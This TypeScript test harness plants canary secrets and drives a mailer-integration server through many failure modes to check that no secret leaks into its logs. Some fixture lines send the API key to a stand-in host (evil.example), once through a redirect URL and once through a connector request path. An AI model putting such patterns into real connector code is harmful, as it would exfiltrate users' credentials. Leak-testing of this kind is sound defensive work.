// A server that meets everything that can go wrong, with a canary wherever a secret can stand. Its log goes to standard output, as a host's would.
import { sql } from 'kysely';
import type { Connector } from '../../../src/server/connector.ts';
import { openPGlite } from '../../../src/server/pglite/index.ts';
import { openPostgres } from '../../../src/server/postgres/index.ts';
import { createAesGcmVault } from '../../../src/server/vault/create-aes-gcm-vault.ts';
import { openShop } from '../shop.ts';

const { canaries, vaultKey, postgres } = JSON.parse(process.argv[2] ?? '{}') as { canaries: string[]; vaultKey: string; postgres: string | null };
let used = 0;
const canary = () => canaries[(used += 1) % canaries.length]!;

/** Everything a connector or a provider can do with a secret on the way to failing. */
const moods: Record<string, (secret: string) => unknown> = {
  well: (secret) => Response.json({ id: 'anna', name: 'anna', proven: true, echo: secret }, { headers: { 'x-echo': secret } }),
  unproven: (secret) => Response.json({ id: 'anna', name: 'anna', proven: false, token: secret }),
  wrong: (secret) => new Response(`key ${secret} is unknown`, { status: 401 }),
  forbidden: (secret) => new Response(secret, { status: 403, statusText: secret }),
  limited: (secret) => new Response(secret, { status: 429, headers: { 'retry-after': secret } }),
  down: (secret) => new Response(`<html>${secret}`, { status: 503 }),
  nonsense: (secret) => Response.json({ id: secret, name: null }),
  redirect: (secret) => new Response(null, { status: 302, headers: { location: `https://evil.example/?key=${secret}` } }),
  huge: (secret) => new Response(secret.repeat(60_000)),
  message: (secret) => {
    throw new Error(`cannot reach https://m.example/?key=${secret}`);
  },
  lines: (secret) => {
    throw new TypeError(`failed\n    at ${secret} (https://m.example/?key=${secret}:1:1)`);
  },
  members: (secret) => {
    throw Object.assign(new Error(secret, { cause: new Error(secret) }), { name: secret, code: secret, stack: `${secret}\n    at ${secret} (${secret}:1:1)` });
  },
  text: (secret) => {
    throw secret as unknown as Error;
  },
  object: (secret) => {
    throw { secret, toString: () => secret } as unknown as Error;
  },
  getter: (secret) => ({
    get status(): number {
      throw new RangeError(secret);
    },
  }),
};
let mood = 'well';
let thrownBy: 'provider' | 'connector' = 'provider';

const mailer: Connector = {
  provider: 'mailer',
  hosts: ['eu.mailer.example'],
  async verify({ credentials }, context) {
    if (thrownBy === 'connector') moods[mood]?.(String(credentials['apiKey']));
    const answer = await context.request({
      method: 'GET',
      url: `https://eu.mailer.example/account?key=${String(credentials['apiKey'])}`,
      headers: { authorization: String(credentials['apiKey']) },
    });
    if (answer.status !== 200) throw new Error(`${answer.status} ${answer.text}`);
    const { id, name, proven } = answer.json as { id: string; name: string; proven: boolean };
    return { outcome: proven ? 'verified' : 'unverified', account: { id, label: name.trim() }, stages: [] };
  },
  options: {
    listId: async ({ credentials, query }, context) => {
      await context.request({ method: 'GET', url: `https://evil.example/${String(credentials['apiKey'])}/${String(query)}` });
      return { items: [], nextCursor: null };
    },
  },
  impact: async ({ credentials }) => {
    throw new Error(String(credentials['apiKey']));
  },
};

const database = postgres ? openPostgres({ connectionString: postgres, maxConnections: 2 }) : await openPGlite();
const shop = await openShop({
  database,
  connectors: [mailer, { provider: 'pager', hosts: ['pager.example'], verify: async () => ({ outcome: 'verified', account: null, stages: [] }) }],
  vault: createAesGcmVault({ keys: [{ id: 'test', key: vaultKey }], current: 'test' }),
  limits: { costlyPerMinute: 1_000_000 },
  fetch: async (_url, init) => moods[mood]?.(new Headers(init?.headers).get('authorization') ?? '') as Response,
  log: (entry) => console.log(JSON.stringify(entry)),
});

// What is stored does not open any more.
const tamper = (id: string) =>
  sql`update integrations set credentials = jsonb_set(credentials, '{fields,apiKey}', to_jsonb(${canary()}::text)) where store_id = ${id}::uuid and credentials <> '{}'`.execute(
    database.kysely,
  );

for (const [name, from] of Object.keys(moods).flatMap(
  (one) =>
    [
      [one, 'provider'],
      [one, 'connector'],
    ] as const,
)) {
  const store = await shop.store();
  const headers = () => ({
    'idempotency-key': canary(),
    cookie: `session=${canary()}`,
    authorization: `Bearer ${canary()}`,
    'user-agent': canary(),
    referer: `https://app.example/?code=${canary()}`,
  });
  const credentials = () => ({ apiKey: canary(), webhookSecret: canary(), region: 'eu' });
  mood = 'well';
  await store.connect(credentials(), headers());
  mood = name;
  thrownBy = from;
  await store.connect(credentials(), headers());
  await store.connect({ region: 'eu' }, headers());
  await store.send('POST', '/mailer/verify', { credentials: credentials() }, headers());
  await store.send('POST', '/mailer/verify', {}, headers());
  await store.send('GET', '/mailer/status', undefined, headers());
  await store.send('GET', '/mailer/impact', undefined, headers());
  await store.send('GET', `/mailer/options/listId?query=${canary()}`, undefined, headers());
  await store.send('POST', '/mailer/options/listId', { values: credentials(), query: canary() }, headers());
  await store.configure({ listId: canary(), [canary()]: canary() }, canary().slice(0, 10), headers());
  await store.configure({ listId: `${canary()}\0`, frequency: 'daily' }, (await store.mailer()).revision, headers());
  await store.send('PATCH', '/mailer', { label: canary() }, { ...headers(), 'if-match': `"${(await store.mailer()).revision}"` });
  await store.send('POST', '/mailer/connect', `{"credentials":{"apiKey":"${canary()}"`, headers());
  await store.send('POST', '/mailer/connect', { credentials: { apiKey: { nested: canary() } }, extra: canary() }, { ...headers(), 'content-type': canary() });
  await store.send('POST', `/${canary()}/connect`, { credentials: credentials() }, { ...headers(), origin: `https://${canary()}.example` });
  await store.send(canary().slice(3, 9).toUpperCase(), '/mailer', undefined, headers());
  await store.send('POST', '', { provider: 'mailer', label: canary() }, headers());
  await tamper(store.id);
  await store.send('POST', '/mailer/verify', {}, headers());
  await store.send('GET', '/mailer/status', undefined, headers());
  shop.hook.answer = () => {
    throw new Error(canary());
  };
  await store.send('GET', '', undefined, headers());
  shop.hook.answer = { actor: 'ana', session: canary() };
  await store.send('DELETE', '/mailer/disconnect', undefined, headers());
}
// A database whose own errors quote what they were given.
const store = await shop.store();
await sql`alter table integrations add constraint quoting check (label is null or label::integer > 0) not valid`.execute(database.kysely);
mood = 'well';
thrownBy = 'provider';
await store.connect({ apiKey: canary(), region: 'eu' });
await store.send('PATCH', '/mailer', { label: canary() }, { 'if-match': `"${(await store.mailer()).revision}"` });
await sql`drop table integration_audit`.execute(database.kysely);
await store.connect({ apiKey: canary(), region: 'eu' });
await tamper(store.id);
await store.send('POST', '/mailer/verify', {});
await shop.close();
await store.connect({ apiKey: canary(), region: 'eu' });
